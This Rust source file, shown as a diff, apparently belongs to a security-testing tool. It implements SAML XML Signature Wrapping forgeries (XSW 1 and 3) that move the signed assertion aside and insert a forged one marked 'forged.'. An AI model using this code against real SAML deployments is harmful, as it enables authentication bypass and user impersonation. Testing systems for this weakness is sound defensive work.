@@ -1,0 +1,48 @@
+//! Signature wrapping: the signature stays good, what it covers moves aside, a forged assertion takes its place.
+//! (Somorovsky et al., "On Breaking SAML", USENIX Security 2012: XSW 1 and 3.)
+
+use crate::provider::Signing;
+use crate::sign::insert_after_issuer;
+use crate::statement::Statement;
+
+/// A forgery made of `response`, which says `statement` and is signed as `signing` says.
+pub fn forge(response: &str, statement: &Statement, signing: Signing) -> String {
+    let forged = forged(statement);
+    if signing.has_response() {
+        // XSW 1: a new response around it; the genuine one hides in an object of its own signature.
+        return around(response, &forged);
+    }
+    // XSW 3: the forged assertion stands before the signed one.
+    response.replacen("<saml:Assertion ", &format!("{}<saml:Assertion ", forged.assertion()), 1)
+}
+
+/// Says that somebody else signs in: `forged.` before the address.
+pub fn forged(statement: &Statement) -> Statement {
+    let mut forged = statement.clone();
+    forged.response_id.push_str("forged");
+    forged.assertion_id.push_str("forged");
+    forged.name_id = format!("forged.{}", statement.name_id);
+    for attribute in forged.attributes.iter_mut().filter(|attribute| attribute.name == "email") {
+        for value in &mut attribute.values {
+            *value = format!("forged.{value}");
+        }
+    }
+    forged
+}
+
+fn around(response: &str, forged: &Statement) -> String {
+    let (signature, without) = cut_signature(response);
+    let object = format!("<ds:Object>{without}</ds:Object></ds:Signature>");
+    let signature = signature.replacen("</ds:Signature>", &object, 1);
+    insert_after_issuer(&forged.response(&forged.assertion()), &signature)
+}
+
+/// The first signature of `xml`, and `xml` without it.
+pub fn cut_signature(xml: &str) -> (String, String) {
+    const END: &str = "</ds:Signature>";
+    let Some((before, rest)) = xml.split_once("<ds:Signature ") else {
+        return (String::new(), xml.to_owned());
+    };
+    let (signature, after) = rest.split_once(END).unwrap_or((rest, ""));
+    (format!("<ds:Signature {signature}{END}"), format!("{before}{after}"))
+}
